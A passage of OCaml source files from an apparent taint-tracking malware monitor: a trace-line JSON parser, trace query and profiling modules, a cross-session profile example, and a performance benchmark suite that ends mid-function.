   no JSON dependency is available in the image, and none is needed:
   trace lines are one-level objects whose values are ints, strings or
   booleans (exactly the Obs.value type).  The parser accepts only
   that shape and reports anything else as an error. *)

type value = Int of int | Str of string | Bool of bool

exception Parse_error of string

let error fmt = Fmt.kstr (fun m -> raise (Parse_error m)) fmt

type cursor = { s : string; mutable pos : int }

let peek c = if c.pos < String.length c.s then Some c.s.[c.pos] else None

let advance c = c.pos <- c.pos + 1

let expect c ch =
  match peek c with
  | Some x when x = ch -> advance c
  | Some x -> error "expected %C at byte %d, got %C" ch c.pos x
  | None -> error "expected %C at byte %d, got end of input" ch c.pos

let skip_ws c =
  let rec go () =
    match peek c with
    | Some (' ' | '\t' | '\n' | '\r') ->
      advance c;
      go ()
    | _ -> ()
  in
  go ()

let hex_digit ch =
  match ch with
  | '0' .. '9' -> Char.code ch - Char.code '0'
  | 'a' .. 'f' -> Char.code ch - Char.code 'a' + 10
  | 'A' .. 'F' -> Char.code ch - Char.code 'A' + 10
  | _ -> error "bad hex digit %C" ch

(* \uXXXX escapes: Obs.Trace only emits them for control bytes
   (< 0x20), so decoding to a single byte is lossless for our traces;
   larger code points are refused rather than silently mangled. *)
let parse_string c =
  expect c '"';
  let b = Buffer.create 16 in
  let rec go () =
    match peek c with
    | None -> error "unterminated string"
    | Some '"' ->
      advance c;
      Buffer.contents b
    | Some '\\' ->
      advance c;
      (match peek c with
       | None -> error "unterminated escape"
       | Some 'n' -> advance c; Buffer.add_char b '\n'; go ()
       | Some 't' -> advance c; Buffer.add_char b '\t'; go ()
       | Some 'r' -> advance c; Buffer.add_char b '\r'; go ()
       | Some '"' -> advance c; Buffer.add_char b '"'; go ()
       | Some '\\' -> advance c; Buffer.add_char b '\\'; go ()
       | Some '/' -> advance c; Buffer.add_char b '/'; go ()
       | Some 'u' ->
         advance c;
         if c.pos + 4 > String.length c.s then error "truncated \\u escape";
         let n =
           (hex_digit c.s.[c.pos] lsl 12)
           lor (hex_digit c.s.[c.pos + 1] lsl 8)
           lor (hex_digit c.s.[c.pos + 2] lsl 4)
           lor hex_digit c.s.[c.pos + 3]
         in
         c.pos <- c.pos + 4;
         if n > 0xff then error "\\u%04x: non-byte escapes unsupported" n;
         Buffer.add_char b (Char.chr n);
         go ()
       | Some ch -> error "bad escape \\%C" ch)
    | Some ch ->
      advance c;
      Buffer.add_char b ch;
      go ()
  in
  go ()

let parse_int c =
  let start = c.pos in
  (match peek c with Some '-' -> advance c | _ -> ());
  let rec digits () =
    match peek c with
    | Some '0' .. '9' ->
      advance c;
      digits ()
    | _ -> ()
  in
  digits ();
  if c.pos = start then error "expected a number at byte %d" start;
  match int_of_string_opt (String.sub c.s start (c.pos - start)) with
  | Some n -> n
  | None -> error "bad number %S" (String.sub c.s start (c.pos - start))

let parse_literal c lit v =
  let n = String.length lit in
  if c.pos + n <= String.length c.s && String.sub c.s c.pos n = lit then begin
    c.pos <- c.pos + n;
    v
  end
  else error "bad literal at byte %d" c.pos

let parse_value c =
  match peek c with
  | Some '"' -> Str (parse_string c)
  | Some ('-' | '0' .. '9') -> Int (parse_int c)
  | Some 't' -> parse_literal c "true" (Bool true)
  | Some 'f' -> parse_literal c "false" (Bool false)
  | Some ch -> error "unsupported value starting with %C at byte %d" ch c.pos
  | None -> error "expected a value, got end of input"

let parse_line line =
  let c = { s = line; pos = 0 } in
  try
    skip_ws c;
    expect c '{';
    skip_ws c;
    let fields = ref [] in
    (match peek c with
     | Some '}' -> advance c
     | _ ->
       let rec members () =
         skip_ws c;
         let k = parse_string c in
         skip_ws c;
         expect c ':';
         skip_ws c;
         let v = parse_value c in
         fields := (k, v) :: !fields;
         skip_ws c;
         match peek c with
         | Some ',' ->
           advance c;
           members ()
         | Some '}' -> advance c
         | Some ch -> error "expected ',' or '}', got %C" ch
         | None -> error "unterminated object"
       in
       members ());
    skip_ws c;
    (match peek c with
     | None -> ()
     | Some ch -> error "trailing %C after object" ch);
    Ok (List.rev !fields)
  with Parse_error m -> Error m
