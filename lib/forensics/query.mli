(** Filtering trace entries — the [hth_trace query] backend. *)

type filter = {
  ev : string option;  (** exact event kind *)
  pid : int option;
  resource : string option;
      (** substring match over name-bearing fields *)
  step_min : int option;
  step_max : int option;
}

val any : filter
(** The all-pass filter. *)

val matches : filter -> Reader.entry -> bool

val run : Reader.t -> filter -> Reader.entry list
(** Matching entries, trace order. *)
