(* Offline profiling from the counters a session embeds at the end of
   its trace ("counter" and "hot_block" lines) plus the event stream
   itself.  Because the embedded lines are the live run's own
   [Session.result.stats] / [hot_blocks], the offline numbers
   reproduce [hth_run --stats] exactly. *)

type t = {
  steps : int;
  phases : (string * int * int) list;  (* name, first step, last step *)
  counters : (string * int) list;  (* embedded, name-sorted *)
  syscalls : (string * int) list;  (* osim.syscalls.<name> members *)
  events_by_kind : (string * int) list;  (* from flow lines *)
  hot_blocks : (int * int * int) list;  (* pid, addr, count *)
}

let prefix = "osim.syscalls."

let of_trace trace =
  let entries = Reader.entries trace in
  let steps = List.length entries in
  let counters =
    List.filter_map
      (fun (e : Reader.entry) ->
        if e.ev <> "counter" then None
        else
          match Reader.str_field e "name", Reader.int_field e "value" with
          | Some n, Some v -> Some (n, v)
          | _ -> None)
      entries
    |> List.sort (fun (a, _) (b, _) -> String.compare a b)
  in
  let syscalls =
    List.filter_map
      (fun (n, v) ->
        let pl = String.length prefix in
        if String.length n > pl && String.sub n 0 pl = prefix then
          Some (String.sub n pl (String.length n - pl), v)
        else None)
      counters
  in
  let hot_blocks =
    List.filter_map
      (fun (e : Reader.entry) ->
        if e.ev <> "hot_block" then None
        else
          match
            ( Reader.int_field e "pid", Reader.int_field e "addr",
              Reader.int_field e "count" )
          with
          | Some pid, Some addr, Some count -> Some (pid, addr, count)
          | _ -> None)
      entries
  in
  let kinds = Hashtbl.create 8 in
  List.iter
    (fun (e : Reader.entry) ->
      if e.ev = "flow" then
        match Reader.str_field e "kind" with
        | Some k ->
          Hashtbl.replace kinds k
            (1 + Option.value (Hashtbl.find_opt kinds k) ~default:0)
        | None -> ())
    entries;
  let events_by_kind =
    Hashtbl.fold (fun k v acc -> (k, v) :: acc) kinds []
    |> List.sort (fun (a, _) (b, _) -> String.compare a b)
  in
  (* phases partition the step line: each runs to the line before the
     next phase marker (or to the end of the trace) *)
  let phase_starts =
    List.filter_map
      (fun (e : Reader.entry) ->
        if e.ev = "phase" then
          Option.map (fun n -> n, e.step) (Reader.str_field e "name")
        else None)
      entries
  in
  let last_step =
    List.fold_left (fun m (e : Reader.entry) -> max m e.step) 0 entries
  in
  let rec with_ends = function
    | [] -> []
    | [ (name, start) ] -> [ name, start, last_step ]
    | (name, start) :: (((_, next) :: _) as rest) ->
      (name, start, next - 1) :: with_ends rest
  in
  { steps; phases = with_ends phase_starts; counters; syscalls;
    events_by_kind; hot_blocks }

let sorted_desc kvs =
  List.sort
    (fun (a, va) (b, vb) ->
      match Int.compare vb va with 0 -> String.compare a b | c -> c)
    kvs

let pp ?(top = 10) ppf p =
  Fmt.pf ppf "@[<v>trace: %d steps@," p.steps;
  if p.phases <> [] then begin
    Fmt.pf ppf "phases:@,";
    List.iter
      (fun (name, a, b) ->
        Fmt.pf ppf "  %-8s steps %d..%d (%d lines)@," name a b (b - a + 1))
      p.phases
  end;
  if p.events_by_kind <> [] then begin
    Fmt.pf ppf "events:@,";
    List.iter
      (fun (k, v) -> Fmt.pf ppf "  %-10s %d@," k v)
      (sorted_desc p.events_by_kind)
  end;
  if p.syscalls <> [] then begin
    Fmt.pf ppf "syscall mix:@,";
    List.iter
      (fun (k, v) -> Fmt.pf ppf "  %-16s %d@," k v)
      (sorted_desc p.syscalls)
  end;
  if p.hot_blocks <> [] then begin
    Fmt.pf ppf "hot blocks (top %d):@," top;
    List.iteri
      (fun i (pid, addr, count) ->
        if i < top then Fmt.pf ppf "  pid %d 0x%06x %d@," pid addr count)
      p.hot_blocks
  end;
  if p.counters = [] then
    Fmt.pf ppf
      "no embedded counters (trace predates profile embedding?)@,";
  Fmt.pf ppf "@]"
