(* Cross-session profiles (Section 10, future work items 6 and 8).

   The single-session policy warns every time g++ execs its hard-coded
   compiler stages.  A profile remembers the warnings the user has
   acknowledged; later sessions only surface *novel* behaviour.  The
   profile round-trips through plain text, so it can live in a dotfile
   between runs.

   All sessions run through one [Hth.Engine.t]: the policy is compiled
   and the images linked once, and every later run reuses them — the
   natural shape for a tool that monitors program after program against
   one profile.

     dune exec examples/cross_session.exe *)

let find name =
  match Guest.Corpus.find name with
  | Some sc -> sc
  | None -> failwith ("missing corpus scenario: " ^ name)

let show title profile (r : Hth.Session.result) =
  let novel = Hth.Profile.novel profile r.warnings in
  Fmt.pr "--- %s ---@." title;
  Fmt.pr "raw verdict:       %a (%d warnings)@." Hth.Report.pp_verdict
    (Hth.Report.verdict r)
    (List.length r.warnings);
  Fmt.pr "effective verdict: %a (%d novel)@.@." Hth.Report.pp_verdict
    (Hth.Profile.effective_verdict profile r)
    (List.length novel)

let () =
  let gxx = find "g++" in
  let profile = Hth.Profile.create () in
  (* compile-once shared artifacts: every session below reuses them *)
  let engine = Hth.Engine.create () in

  (* session 1: the compiler driver warns, the user inspects and accepts *)
  let r1 = Hth.Engine.run engine gxx.sc_setup in
  show "session 1 (fresh profile)" profile r1;
  List.iter
    (fun w -> Fmt.pr "user acknowledges:@.%s@.@." (Secpert.Warning.to_string w))
    r1.distinct;
  Hth.Profile.acknowledge profile r1.warnings;

  (* the profile persists between sessions as plain text *)
  let saved = Hth.Profile.to_string profile in
  Fmt.pr "persisted profile (%d fingerprints):@.%s@." (Hth.Profile.size profile)
    saved;
  let profile = Hth.Profile.of_string saved in

  (* session 2: the same behaviour is now expected — and the engine's
     linked-image cache makes re-running the same setup cheap *)
  let r2 = Hth.Engine.run engine gxx.sc_setup in
  show "session 2 (profile loaded)" profile r2;

  (* but a different program's malice is still flagged *)
  let grabem = find "grabem" in
  let r3 = Hth.Engine.run engine grabem.sc_setup in
  show "grabem under the same profile" profile r3
