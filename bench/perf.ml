(* Section 9: performance evaluation.

   The paper's finding is that Harrier's naive data-flow tracking
   dominates the cost; we reproduce the shape by running the same guest
   workload under increasing levels of monitoring and reporting the
   slowdown relative to the unmonitored simulator.  Component
   micro-benchmarks (tag-set union, shadow updates, expert-system
   inference) localize the cost, echoing the paper's discussion. *)

open Bechamel
open Toolkit

(* one arena for every tag set this benchmark interns *)
let sp = Taint.Space.create ()

(* The workload: an instruction-dense copy/checksum kernel (~60k
   instructions), so per-instruction monitoring dominates. *)
let workload () = Guest.Perf_workload.scenario ~iters:100

(* The ablation ladder measures pure interpretation ([tier = false]) so
   each increment isolates one monitoring feature; the final row turns
   tiered block compilation back on to show the summary fast path
   recovering most of the dataflow cost. *)
let bare_config =
  { Harrier.Monitor.default_config with track_dataflow = false;
    track_frequency = false; shortcircuit = []; tier = false }

let freq_config =
  { Harrier.Monitor.default_config with track_dataflow = false;
    shortcircuit = []; tier = false }

let dataflow_config =
  { Harrier.Monitor.default_config with track_frequency = false;
    tier = false }

let full_config = { Harrier.Monitor.default_config with tier = false }

let session_tests () =
  let sc = workload () in
  let run_unmonitored () =
    ignore (Hth.Session.run_unmonitored sc.sc_setup)
  in
  let run_with config () =
    ignore (Hth.Session.run ~monitor_config:config sc.sc_setup)
  in
  Test.make_grouped ~name:"harrier-levels"
    [ Test.make ~name:"native (no monitor)"
        (Staged.stage run_unmonitored);
      Test.make ~name:"+syscall monitor" (Staged.stage (run_with bare_config));
      Test.make ~name:"+bb frequency" (Staged.stage (run_with freq_config));
      Test.make ~name:"+dataflow" (Staged.stage (run_with dataflow_config));
      Test.make ~name:"full HTH" (Staged.stage (run_with full_config));
      Test.make ~name:"full HTH (tiered)"
        (Staged.stage (run_with Harrier.Monitor.default_config)) ]

(* native vs textual-CLIPS policy throughput on the same event stream *)
let policy_tests () =
  let meta =
    { Harrier.Events.pid = 1; time = 10; freq = 1; addr = 0; step = 0 }
  in
  let transfer =
    Harrier.Events.Transfer
      { call = "SYS_write";
        data = (Taint.Tagset.singleton sp) (Taint.Source.File "/a");
        head = "";
        sources =
          [ Taint.Source.File "/a",
            (Taint.Tagset.singleton sp) (Taint.Source.Binary "/mal") ];
        guard = [];
        target =
          { r_kind = Harrier.Events.R_file; r_name = "/t";
            r_origin = (Taint.Tagset.singleton sp) (Taint.Source.Binary "/mal") };
        via_server = None; len = 16; meta }
  in
  let feed policy () =
    let s = Secpert.System.create ~policy () in
    for _ = 1 to 20 do
      ignore (Secpert.System.handle_event s transfer)
    done
  in
  Test.make_grouped ~name:"policy"
    [ Test.make ~name:"native rules (20 transfers)"
        (Staged.stage (feed Secpert.System.Native));
      Test.make ~name:"textual CLIPS (20 transfers)"
        (Staged.stage (feed Secpert.System.Clips)) ]

let tag_a =
  (Taint.Tagset.of_list sp)
    [ Taint.Source.User_input; Taint.Source.File "/a";
      Taint.Source.Binary "/bin/x" ]

let tag_b =
  (Taint.Tagset.of_list sp)
    [ Taint.Source.Socket "peer:1"; Taint.Source.File "/a" ]

(* An indexed-WM inference workload: 4 templates x 50 facts, one
   2-pattern joined rule over two of them.  With per-template buckets
   the join only visits candidate facts of each pattern's template. *)
let wm_inference () =
  let e = Expert.Engine.create () in
  List.iter
    (fun name ->
      Expert.Engine.deftemplate e
        (Expert.Template.make name [ Expert.Template.slot "v" ]))
    [ "a"; "b"; "c"; "d" ];
  List.iter
    (fun name ->
      for i = 1 to 50 do
        ignore (Expert.Engine.assert_fact e name [ "v", Expert.Value.Int i ])
      done)
    [ "a"; "b"; "c"; "d" ];
  Expert.Engine.defrule e
    (Expert.Engine.rule ~name:"join"
       [ Expert.Pattern.make "a" [ "v", Expert.Pattern.Var "x" ];
         Expert.Pattern.make "b" [ "v", Expert.Pattern.Var "x" ] ]
       (fun _ _ _ -> ()));
  ignore (Expert.Engine.run e)

let secpert_execve_workload () =
  let secpert = Secpert.System.create () in
  let meta =
    { Harrier.Events.pid = 1; time = 10; freq = 1; addr = 0; step = 0 }
  in
  let res : Harrier.Events.resource =
    { r_kind = Harrier.Events.R_file; r_name = "/bin/ls";
      r_origin = (Taint.Tagset.singleton sp) (Taint.Source.Binary "/bin/x") }
  in
  for _ = 1 to 50 do
    ignore
      (Secpert.System.handle_event secpert
         (Harrier.Events.Exec { path = res; argv = []; meta }))
  done

let component_tests () =
  let shadow = Harrier.Shadow.create ~space:sp () in
  (* crosses the 4 KiB page boundary on purpose *)
  let straddle_addr = 0x8000 - 8 in
  Test.make_grouped ~name:"components"
    [ Test.make ~name:"tagset union (interned, memo hit)"
        (Staged.stage (fun () -> ignore ((Taint.Tagset.union sp) tag_a tag_b)));
      Test.make ~name:"tagset equal (pointer)"
        (Staged.stage (fun () -> ignore (Taint.Tagset.equal tag_a tag_b)));
      Test.make ~name:"shadow 4-byte store+load"
        (Staged.stage (fun () ->
             Harrier.Shadow.set_range shadow 0x8000 4 tag_a;
             ignore (Harrier.Shadow.range shadow 0x8000 4)));
      Test.make ~name:"shadow 64-byte range ops (page straddle)"
        (Staged.stage (fun () ->
             Harrier.Shadow.set_range shadow straddle_addr 64 tag_b;
             ignore (Harrier.Shadow.range shadow straddle_addr 64)));
      Test.make ~name:"indexed-WM inference (200 facts, 2-pat join)"
        (Staged.stage wm_inference);
      Test.make ~name:"secpert 50 execve events"
        (Staged.stage secpert_execve_workload) ]

(* ------------------------------------------------------------------ *)
(* Corpus throughput: the nine golden scenarios swept back-to-back.
   Cold per-session setup (one single-use engine per run, as
   Hth.Session does) against one shared engine whose compiled policy
   and linked-image cache persist across the sweep, and against the
   shared engine in its fast configuration (no event accumulation, one
   shared taint arena). *)

let golden_names =
  [ "ElmExploit"; "nlspath"; "procex"; "grabem"; "vixie crontab";
    "pma"; "superforker"; "ls"; "column" ]

let golden_corpus () = List.filter_map Guest.Corpus.find golden_names

let corpus_size = List.length (golden_corpus ())

let sweep run_one scs () =
  List.iter (fun (sc : Guest.Scenario.t) -> ignore (run_one sc.sc_setup)) scs

(* Corpus rows are measured by sustained averaging, not bechamel's
   OLS.  A cold sweep allocates (and drops) two dozen one-megabyte
   address spaces, so its cost includes real GC debt whose repayment
   drifts across consecutive samples; that drift wrecks the OLS fit,
   and whatever live heap earlier benchmark groups left behind leaks
   into the estimate.  Compacting, warming twice, then averaging whole
   sweeps charges each configuration exactly its own steady-state
   cost — the number a long corpus run actually observes. *)
let sustained_ns ?(rounds = 60) f =
  Gc.compact ();
  f ();
  f ();
  let t0 = Unix.gettimeofday () in
  for _ = 1 to rounds do
    f ()
  done;
  (Unix.gettimeofday () -. t0) /. float rounds *. 1e9

let corpus_results () =
  let scs = golden_corpus () in
  let shared = Hth.Engine.create () in
  let shared_clips = Hth.Engine.create ~policy:Secpert.System.Clips () in
  let shared_fast =
    Hth.Engine.create ~keep_events:false ~share_taint_space:true ()
  in
  [ "corpus/cold per-session setup (native)",
    sustained_ns (sweep Hth.Session.run scs);
    "corpus/shared engine (native)",
    sustained_ns (sweep (Hth.Engine.run shared) scs);
    "corpus/cold per-session setup (clips)",
    sustained_ns (sweep (Hth.Session.run ~policy:Secpert.System.Clips) scs);
    "corpus/shared engine (clips)",
    sustained_ns (sweep (Hth.Engine.run shared_clips) scs);
    "corpus/shared engine (native, no events, shared taint)",
    sustained_ns (sweep (Hth.Engine.run shared_fast) scs) ]
  |> List.sort compare

(* ------------------------------------------------------------------ *)
(* Fleet scaling: the same golden sweep pushed through the
   work-stealing executor at increasing worker counts.  The executor
   (and its per-worker engine forks) persists across rounds, like a
   long-lived hth_serve process; each measured round submits the whole
   corpus and drains it in order.  Speedup is bounded by the host's
   core count — recorded in the JSON row so a 1-core CI box reporting
   1.0x is not mistaken for a scheduler regression. *)

let fleet_jobs = [ 1; 2; 4; 8 ]

let fleet_rounds = 30

let fleet_results () =
  let scs = golden_corpus () in
  let batch =
    List.map
      (fun (sc : Guest.Scenario.t) -> Fleet.Executor.job sc.sc_setup)
      scs
  in
  List.map
    (fun jobs ->
      let base = Hth.Engine.create ~keep_events:false () in
      let ex = Fleet.Executor.create ~jobs [ "default", base ] in
      let ns =
        sustained_ns ~rounds:fleet_rounds (fun () ->
            ignore (Fleet.Executor.run_all ex batch))
      in
      let st = Fleet.Executor.stats ex in
      Fleet.Executor.shutdown ex;
      Printf.sprintf "fleet/jobs=%d" jobs, ns, st)
    fleet_jobs

(* ------------------------------------------------------------------ *)
(* Serve pipeline: the golden sweep pushed through the full service
   path — request parsing, supervised admission, fleet execution,
   collector routing, ordered emission — over a real socketpair, the
   same transport hth_serve's socket mode uses.  Latency percentiles
   come from the serve.latency.ms histogram the collector feeds
   (reset between configurations, so each row measures only its own
   interval). *)

let serve_rounds = 20

let serve_resolver name =
  Option.map
    (fun (sc : Guest.Scenario.t) ->
      { Fleet.Serve.t_setup = sc.sc_setup;
        t_expected = Guest.Scenario.expected_label sc.sc_expected;
        t_matches = Guest.Scenario.matches sc.sc_expected })
    (Guest.Corpus.find name)

let serve_results () =
  let h_latency = Obs.Histogram.make "serve.latency.ms" in
  let request name = Printf.sprintf "{\"scenario\":%S}" name in
  List.map
    (fun jobs ->
      let svc =
        Fleet.Serve.create ~jobs ~deadline:30. ~resolver:serve_resolver ()
      in
      let client_fd, server_fd =
        Unix.socketpair Unix.PF_UNIX Unix.SOCK_STREAM 0
      in
      let server =
        Thread.create
          (fun () ->
            let ic = Unix.in_channel_of_descr server_fd in
            let oc = Unix.out_channel_of_descr server_fd in
            ignore
              (Fleet.Serve.serve_connection svc
                 ~input:(fun () -> In_channel.input_line ic)
                 ~output:(fun line ->
                   output_string oc line;
                   output_char oc '\n';
                   flush oc)
                 ()))
          ()
      in
      let ic = Unix.in_channel_of_descr client_fd in
      let oc = Unix.out_channel_of_descr client_fd in
      let send name =
        output_string oc (request name);
        output_char oc '\n';
        flush oc
      in
      let read_one () = ignore (In_channel.input_line ic) in
      (* warm the forks and image caches with one synchronous sweep *)
      List.iter
        (fun n ->
          send n;
          read_one ())
        golden_names;
      Obs.Histogram.reset h_latency;
      Gc.compact ();
      let t0 = Unix.gettimeofday () in
      (* writer thread keeps the request stream ahead of the window so
         the fleet is never starved by the measuring client *)
      let writer =
        Thread.create
          (fun () ->
            for _ = 1 to serve_rounds do
              List.iter send golden_names
            done)
          ()
      in
      for _ = 1 to serve_rounds * corpus_size do
        read_one ()
      done;
      let ns =
        (Unix.gettimeofday () -. t0) /. float serve_rounds *. 1e9
      in
      Thread.join writer;
      let pct p = Obs.Histogram.percentile h_latency p in
      let row =
        Printf.sprintf "serve/jobs=%d" jobs, ns, (pct 50., pct 95., pct 99.)
      in
      Unix.shutdown client_fd Unix.SHUTDOWN_SEND;
      Thread.join server;
      (try Unix.close client_fd with Unix.Unix_error _ -> ());
      (try Unix.close server_fd with Unix.Unix_error _ -> ());
      Fleet.Serve.shutdown svc;
      row)
    [ 1; 2 ]

(* ------------------------------------------------------------------ *)
(* Trace warehouse: ingest cost of the segment sink against a plain
   in-memory buffer sink, and fleet-query latency against a built
   store.  The two segment rows bracket the sink hot path: per-line
   frames is what naive per-line writes amount to (one frame, one
   deflate stream and one checksum per trace line), the 64 KiB chunked
   sink is the shipped path — lines accumulate in one reused buffer
   and are framed wholesale. *)

let store_rounds = 30

let store_ingest_results () =
  let scs = golden_corpus () in
  let eng = Hth.Engine.create ~keep_events:false () in
  let buf = Buffer.create (1 lsl 16) in
  let buffer_sweep () =
    List.iter
      (fun (sc : Guest.Scenario.t) ->
        Buffer.clear buf;
        ignore
          (Hth.Engine.run eng ~trace:(Obs.Trace.buffer_target buf)
             sc.sc_setup))
      scs
  in
  let segment_sweep ?chunk_bytes () =
    List.iter
      (fun (sc : Guest.Scenario.t) ->
        let w = Store.Segment.Writer.create ?chunk_bytes () in
        ignore
          (Hth.Engine.run eng ~trace:(Store.Segment.Writer.target w)
             sc.sc_setup);
        ignore (Store.Segment.Writer.seal w))
      scs
  in
  [ "store/ingest buffer sink",
    sustained_ns ~rounds:store_rounds buffer_sweep;
    "store/ingest segment sink (per-line frames)",
    sustained_ns ~rounds:store_rounds (segment_sweep ~chunk_bytes:1);
    "store/ingest segment sink (64KiB chunks)",
    sustained_ns ~rounds:store_rounds (segment_sweep ?chunk_bytes:None) ]

(* Queries run against a store of one golden sweep built in a temp
   directory; they read the manifest and segment indexes only, so each
   measured call includes the real per-segment file I/O the CLI pays. *)
let store_entry (sc : Guest.Scenario.t) outcome
    (sealed : Store.Segment.sealed) =
  let verdict, matched, warnings, distinct, degraded =
    match outcome with
    | Ok (r : Hth.Engine.result) ->
      let v = Hth.Report.verdict r in
      ( Hth.Report.verdict_label v,
        Guest.Scenario.matches sc.sc_expected v,
        List.length r.warnings, List.length r.distinct, r.degraded <> [] )
    | Error e -> "error:" ^ Hth.Error.kind e, false, 0, 0, false
  in
  { Store.Manifest.e_run = sc.sc_name;
    e_scenario = sc.sc_name;
    e_policy = "native";
    e_seed = None;
    e_fault = None;
    e_verdict = verdict;
    e_expected = Guest.Scenario.expected_label sc.sc_expected;
    e_match = matched;
    e_warnings = warnings;
    e_distinct = distinct;
    e_degraded = degraded;
    e_steps = 0;
    e_raw_bytes = 0;
    e_framed_bytes = 0;
    e_digest = Store.Manifest.digest sealed.s_index.ix_counters;
    e_segment = "" }

let build_store dir =
  let wh =
    match Store.Warehouse.open_ dir with
    | Ok wh -> wh
    | Error e -> failwith (Hth.Error.to_string e)
  in
  let eng = Hth.Engine.create ~keep_events:false () in
  List.iter
    (fun (sc : Guest.Scenario.t) ->
      let w = Store.Segment.Writer.create () in
      let outcome =
        Hth.Engine.run_outcome eng ~trace:(Store.Segment.Writer.target w)
          sc.sc_setup
      in
      let sealed = Store.Segment.Writer.seal w in
      ignore (Store.Warehouse.append wh ~entry:(store_entry sc outcome sealed) ~sealed))
    (golden_corpus ());
  Store.Warehouse.close wh

let remove_store dir =
  let rm_files d =
    if Sys.file_exists d then begin
      Array.iter (fun f -> Sys.remove (Filename.concat d f)) (Sys.readdir d)
    end
  in
  rm_files (Filename.concat dir "segments");
  (try Unix.rmdir (Filename.concat dir "segments")
   with Unix.Unix_error _ -> ());
  rm_files dir;
  try Unix.rmdir dir with Unix.Unix_error _ -> ()

let store_query_rounds = 300

let store_query_results () =
  let dir = Filename.temp_file "hth_bench_store" "" in
  Sys.remove dir;
  build_store dir;
  Fun.protect ~finally:(fun () -> remove_store dir) @@ fun () ->
  let view =
    match Store.Warehouse.load dir with
    | Ok v -> v
    | Error e -> failwith (Hth.Error.to_string e)
  in
  let ok = function
    | Ok _ -> ()
    | Error e -> failwith (Hth.Error.to_string e)
  in
  [ "store/fleet query (severity=HIGH)",
    sustained_ns ~rounds:store_query_rounds (fun () ->
        ok
          (Store.Fleet_query.query view
             { Store.Fleet_query.no_filter with q_severity = Some "HIGH" }));
    "store/fleet profile",
    sustained_ns ~rounds:store_query_rounds (fun () ->
        ok (Store.Fleet_query.profile view));
    "store/fleet diff (pma)",
    sustained_ns ~rounds:store_query_rounds (fun () ->
        ok (Store.Fleet_query.diff view ~run:"pma")) ]

let analyze tests =
  let ols =
    Analyze.ols ~r_square:true ~bootstrap:0
      ~predictors:[| Measure.run |]
  in
  let instances = Instance.[ monotonic_clock ] in
  let cfg =
    Benchmark.cfg ~limit:300 ~quota:(Time.second 0.8) ~stabilize:false ()
  in
  let raw = Benchmark.all cfg instances tests in
  let results = Analyze.all ols Instance.monotonic_clock raw in
  Hashtbl.fold
    (fun name ols acc ->
      let ns =
        match Analyze.OLS.estimates ols with
        | Some (e :: _) -> e
        | _ -> nan
      in
      (name, ns) :: acc)
    results []
  |> List.sort compare

let human_ns ns =
  if ns > 1e9 then Printf.sprintf "%.2f s" (ns /. 1e9)
  else if ns > 1e6 then Printf.sprintf "%.2f ms" (ns /. 1e6)
  else if ns > 1e3 then Printf.sprintf "%.2f us" (ns /. 1e3)
  else Printf.sprintf "%.0f ns" ns

(* Machine-readable results so future PRs can track the trajectory. *)
let json_escape s =
  let buf = Buffer.create (String.length s) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let json_group name results extra =
  let entry (bench, ns) =
    let fields =
      Printf.sprintf "\"name\": \"%s\", \"ns_per_run\": %.1f"
        (json_escape bench) ns
      ::
      (match extra bench ns with [] -> [] | fs -> fs)
    in
    Printf.sprintf "    {%s}" (String.concat ", " fields)
  in
  Printf.sprintf "  \"%s\": [\n%s\n  ]" name
    (String.concat ",\n" (List.map entry results))

(* The cold row a corpus result should be compared against: the one
   running the same policy ("(clips)" rows vs the cold clips sweep,
   everything else vs the cold native sweep). *)
let corpus_cold_for corpus name =
  let is_clips n =
    let affix = "(clips)" in
    let na = String.length affix and nn = String.length n in
    let rec at i = i + na <= nn && (String.sub n i na = affix || at (i + 1)) in
    at 0
  in
  let cold_name =
    if is_clips name then "corpus/cold per-session setup (clips)"
    else "corpus/cold per-session setup (native)"
  in
  match List.find_opt (fun (n, _) -> n = cold_name) corpus with
  | Some (_, ns) -> Some ns
  | None -> None

let write_json path ~levels ~native ~components ~policies ~corpus ~fleet
    ~serve ~store =
  let slowdown _ ns =
    if Float.is_nan native || native = 0. then []
    else [ Printf.sprintf "\"slowdown_vs_native\": %.2f" (ns /. native) ]
  in
  let no_extra _ _ = [] in
  let corpus_extra name ns =
    (* one benchmark run is a sweep of the whole golden corpus; each
       shared-engine row is compared against the cold row running the
       same policy *)
    let fields =
      [ Printf.sprintf "\"sessions_per_sec\": %.0f"
          (float_of_int corpus_size *. 1e9 /. ns) ]
    in
    match corpus_cold_for corpus name with
    | Some cold when cold > 0. ->
      fields
      @ [ Printf.sprintf "\"speedup_vs_cold\": %.2f" (cold /. ns) ]
    | _ -> fields
  in
  let jobs1_ns =
    match
      List.find_opt (fun (n, _, _) -> n = "fleet/jobs=1") fleet
    with
    | Some (_, ns, _) -> ns
    | None -> nan
  in
  let fleet_extra name ns =
    match List.find_opt (fun (n, _, _) -> n = name) fleet with
    | None -> []
    | Some (_, _, (st : Fleet.Pool.stats)) ->
      let total_rounds = fleet_rounds + 2 (* two warmups *) in
      [ Printf.sprintf "\"host_cores\": %d"
          (Domain.recommended_domain_count ());
        Printf.sprintf "\"sessions_per_sec\": %.0f"
          (float_of_int corpus_size *. 1e9 /. ns);
        Printf.sprintf "\"steals_per_sweep\": %.1f"
          (float_of_int st.stolen /. float_of_int total_rounds);
        Printf.sprintf "\"parks_per_sweep\": %.1f"
          (float_of_int st.parks /. float_of_int total_rounds) ]
      @
      (if Float.is_nan jobs1_ns || jobs1_ns <= 0. then []
       else [ Printf.sprintf "\"speedup_vs_jobs1\": %.2f" (jobs1_ns /. ns) ])
  in
  let serve_extra name ns =
    match List.find_opt (fun (n, _, _) -> n = name) serve with
    | None -> []
    | Some (_, _, (p50, p95, p99)) ->
      [ Printf.sprintf "\"sessions_per_sec\": %.0f"
          (float_of_int corpus_size *. 1e9 /. ns);
        Printf.sprintf "\"latency_p50_ms\": %.3f" p50;
        Printf.sprintf "\"latency_p95_ms\": %.3f" p95;
        Printf.sprintf "\"latency_p99_ms\": %.3f" p99 ]
  in
  (* ingest rows: one run is a full corpus sweep; query rows: one run
     is one fleet query, reported as wall-clock latency *)
  let store_buffer_ns =
    match
      List.find_opt (fun (n, _) -> n = "store/ingest buffer sink") store
    with
    | Some (_, ns) -> ns
    | None -> nan
  in
  let store_extra name ns =
    if String.length name >= 13 && String.sub name 0 13 = "store/ingest " then
      Printf.sprintf "\"sessions_per_sec\": %.0f"
        (float_of_int corpus_size *. 1e9 /. ns)
      ::
